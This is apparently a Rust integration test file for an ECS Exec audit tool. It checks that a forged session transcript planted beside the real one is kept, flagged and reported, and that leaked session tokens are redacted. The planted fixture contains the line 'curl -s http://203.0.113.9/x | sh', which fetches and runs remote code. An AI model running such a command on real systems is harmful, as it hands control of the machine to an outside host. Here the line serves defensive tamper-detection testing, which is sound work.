//! Framing (issue 12.2) through the real binary: a second transcript planted under a session's
//! id, in another folder, must not silently replace or vanish beside the real one. Identical
//! copies (S3 and CloudWatch) are one transcript; different ones are both kept, the session is
//! `conflicting`, the run warns by name, a finding is raised, and the transcript at the
//! cluster's configured logging destination is the one the session's columns describe.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

const SESSION: &str = "ecs-execute-command-c4q547es94mn8eh3uooxpn3n3p";
const REAL: &str = "sample-data/exec-logs/cloudwatch/111122223333/ecs/exec/payments-prod/ecs-execute-command-c4q547es94mn8eh3uooxpn3n3p.json";

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_execaudit"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env_remove("EXECAUDIT_STORE")
        .args(args)
        .output()
        .expect("binary runs")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn json(args: &[&str]) -> Value {
    let o = run(args);
    assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o.stderr));
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&o.stdout)))
}

/// A `script` transcript for the session with other commands than the real one, uploaded
/// earlier than it (so "first seen" or "earliest" would pick it).
fn plant(dir: &Path) -> String {
    let planted = dir.join("planted");
    std::fs::create_dir_all(&planted).unwrap();
    let body = "Script started on 2024-11-24 12:12:40+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/ipc/ecs-exec/ipcTempFile.log\" <not executed on terminal>]\n\
        \x1b[?2004hroot@ip-10-0-3-19:/app# curl -s http://203.0.113.9/x | sh\r\n\x1b[?2004l\r\
        \x1b[?2004hroot@ip-10-0-3-19:/app# exit\r\n\x1b[?2004l\rexit\r\n\n\
        Script done on 2024-11-24 12:12:40+00:00 [COMMAND_EXIT_CODE=\"0\"]\n";
    let path = planted.join(format!("{SESSION}.log"));
    std::fs::write(&path, body).unwrap();
    planted.to_str().unwrap().to_owned()
}

fn session(store: &str) -> Value {
    let v = json(&["sessions", "--store", store, "--format", "json"]);
    v.as_array()
        .unwrap()
        .iter()
        .find(|s| s["session_id"] == SESSION)
        .cloned()
        .expect("the session is listed")
}

fn commands(store: &str) -> Vec<String> {
    let v = json(&[
        "commands",
        "--session",
        SESSION,
        "--store",
        store,
        "--format",
        "json",
    ]);
    v.as_array()
        .unwrap()
        .iter()
        .map(|c| c["command"].as_str().unwrap().to_owned())
        .collect()
}

fn assert_conflicting(store: &str) {
    let s = session(store);
    assert_eq!(s["transcript_status"], "conflicting", "{s}");
    assert_eq!(s["transcripts"], 2, "{s}");
    // The real transcript lies at the cluster's configured log group: the session's columns
    // describe it, though the planted one arrived earlier.
    assert_eq!(s["end_time"], "2024-11-24T12:12:43Z", "{s}");
    let c = commands(store);
    assert!(
        c.iter().any(|c| c.contains("systemctl status app")),
        "{c:?}"
    );
    assert!(c.iter().any(|c| c.contains("203.0.113.9")), "{c:?}");
    let f = json(&["findings", "--store", store, "--format", "json"]);
    assert!(
        f.as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule_id"] == "transcript-conflicting" && f["session_id"] == SESSION),
        "{f}"
    );
    let o = run(&["show", SESSION, "--store", store]);
    let shown = text(&o.stdout);
    assert!(
        shown.contains("2 transcripts with different commands"),
        "{shown}"
    );
    assert!(shown.contains("planted"), "{shown}");
    // The JSON says it too, and carries both transcripts (it showed the first alone).
    let v = json(&["show", SESSION, "--store", store, "--format", "json"]);
    assert!(
        v["warning"].as_str().is_some_and(|w| w.contains("planted")),
        "{v}"
    );
    let ts = v["transcripts"].as_array().expect("every transcript");
    assert_eq!(ts.len(), 2);
    assert_ne!(ts[0]["transcript_id"], ts[1]["transcript_id"]);
    assert_eq!(v["transcript"], ts[0]);
    // `transcript` is the one the session describes (at the configured log group), not the
    // first by id, which here is the planted copy.
    let source = v["transcript"]["source"].as_str().unwrap();
    assert!(!source.contains("planted"), "{source}");
}

#[test]
fn a_planted_transcript_is_kept_beside_the_real_one_and_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let planted = plant(dir.path());
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    let o = run(&["ingest", "sample-data", &planted, "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
    assert!(all.contains("1 conflicting transcripts kept"), "{all}");
    assert!(
        all.contains(&format!("transcript of session {SESSION} differs")),
        "{all}"
    );
    assert_conflicting(store);
    // Ingesting everything again stores nothing twice.
    let before = commands(store).len();
    let o = run(&["ingest", "sample-data", &planted, "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(commands(store).len(), before);
    assert_conflicting(store);
}

#[test]
fn a_transcript_planted_in_a_later_run_is_a_conflict_too() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    let o = run(&["ingest", "sample-data", "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_eq!(session(store)["transcript_status"], "present");
    let planted = plant(dir.path());
    let o = run(&["ingest", &planted, "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert_conflicting(store);
}

#[test]
fn an_identical_copy_elsewhere_is_a_duplicate_not_a_conflict() {
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("copy");
    std::fs::create_dir_all(&copy).unwrap();
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join(REAL),
        copy.join(format!("{SESSION}.json")),
    )
    .unwrap();
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    let o = run(&[
        "ingest",
        "sample-data",
        copy.to_str().unwrap(),
        "--store",
        store,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("1 duplicate transcripts dropped"),
        "{}",
        text(&o.stdout)
    );
    let s = session(store);
    assert_eq!(s["transcript_status"], "present", "{s}");
    assert_eq!(s["transcripts"], 1, "{s}");
    assert_eq!(commands(store).len(), 2);
}

#[test]
fn show_names_a_leaked_session_token() {
    let dir = tempfile::tempdir().unwrap();
    let trail = dir.path().join("trail.json");
    std::fs::write(
        &trail,
        r#"{"Records":[{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","userName":"dave"},"eventTime":"2024-05-15T08:00:00Z","eventSource":"ecs.amazonaws.com","eventName":"ExecuteCommand","awsRegion":"us-east-1","requestParameters":{"cluster":"c","task":"t","command":"/bin/sh","interactive":true},"responseElements":{"session":{"sessionId":"ecs-execute-command-leak0001","tokenValue":"AAEAAcVb7ww10N9aNUI5Cl7KxyzEXAMPLEEXAMPLEEXAMPLE0123456789"}},"eventID":"leak1"}]}"#,
    )
    .unwrap();
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    let o = run(&["ingest", trail.to_str().unwrap(), "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = run(&["show", "ecs-execute-command-leak0001", "--store", store]);
    let shown = text(&o.stdout);
    assert!(shown.contains("LEAKED"), "{shown}");
    assert!(!shown.contains("AAEAAcVb7ww10N9aNUI5"), "{shown}");
    let s = json(&["sessions", "--store", store, "--format", "json"]);
    assert_eq!(s[0]["token_unredacted"], true, "{s}");
}

#[test]
fn a_cut_off_upload_is_superseded_by_the_complete_one_not_a_conflict() {
    // The same session cut off before its end (no footer: `truncated`), read in an earlier
    // run than the complete recording: the complete one replaces it.
    let dir = tempfile::tempdir().unwrap();
    let cut = dir.path().join("cut");
    std::fs::create_dir_all(&cut).unwrap();
    std::fs::write(
        cut.join(format!("{SESSION}.log")),
        "Script started on 2024-11-24 12:12:43+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/ipc/ecs-exec/ipcTempFile.log\" <not executed on terminal>]\n\
         \x1b[?2004hroot@ip-10-0-3-19:/app# systemctl status app 2>&1 | head -1\r\n\x1b[?2004l\r\
         System has not been booted with systemd as init system (PID 1). Can't operate.\r\n",
    )
    .unwrap();
    let store = dir.path().join("store");
    let store = store.to_str().unwrap();
    let o = run(&["ingest", cut.to_str().unwrap(), "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let o = run(&["ingest", "sample-data", "--store", store]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let s = session(store);
    assert_eq!(s["transcript_status"], "present", "{s}");
    assert_eq!(s["transcripts"], 1, "{s}");
    let c = commands(store);
    assert_eq!(c.len(), 2, "{c:?}");
    let shown = text(&run(&["show", SESSION, "--store", store]).stdout);
    assert!(!shown.contains("different commands"), "{shown}");
}
